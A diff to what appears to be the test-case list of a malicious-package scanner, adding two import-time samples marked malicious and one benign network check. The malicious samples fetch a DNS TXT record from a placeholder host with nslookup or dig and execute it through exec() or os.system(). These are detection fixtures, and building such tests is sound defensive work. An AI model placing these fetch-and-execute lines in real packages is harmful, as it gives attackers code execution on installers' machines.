@@ -117,6 +117,16 @@ CASES = [
         "    r = aiodns.DNSResolver()\n    ans = await r.query('t.x.invalid', 'TXT')\n"
         "    subprocess.run(ans[0].text, shell=True)\n\n\nasyncio.run(_go())\n"),
         "malicious", ("PV325",), kind="wheel"),
+    Case("TXT record read with nslookup in a child process, exec'd", "nslookupexec", _init(
+        "nslookupexec",
+        "import subprocess\n\n_o = subprocess.check_output(['nslookup', '-type=txt', "
+        "'c.x.invalid']).decode()\nexec(_o.split('\"')[1])\n"), "malicious", ("PV202",),
+        kind="wheel"),
+    Case("dig +short TXT output run by os.system", "digsystem", _init(
+        "digsystem",
+        "import os, subprocess\n\n"
+        "os.system(subprocess.getoutput('dig +short TXT c.x.invalid').strip('\"'))\n"),
+        "malicious", ("PV325",), kind="wheel"),
     Case("mail body fetched over IMAP at import and exec'd (tuple-unpacked reply)", "imapc2",
          _init(
         "imapc2",
@@ -181,4 +191,12 @@ CASES = [
         "    s.sendto(b'\\x1b' + 47 * b'\\0', (server, 123))\n"
         "    data, _ = s.recvfrom(48)\n"
         "    return struct.unpack('!12I', data)[10] - 2208988800\n"), "benign", kind="wheel"),
+    Case("network check printing what dig and curl return", "netcheck", _init(
+        "netcheck",
+        "import subprocess\n\n\ndef check(host):\n"
+        "    addr = subprocess.check_output(['dig', '+short', host], text=True).strip()\n"
+        "    code = subprocess.run(['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}',\n"
+        "                          'https://' + host], capture_output=True, text=True).stdout\n"
+        "    print(f'{host}: {addr} HTTP {code}')\n    return addr, code\n"), "benign",
+        kind="wheel"),
 ]
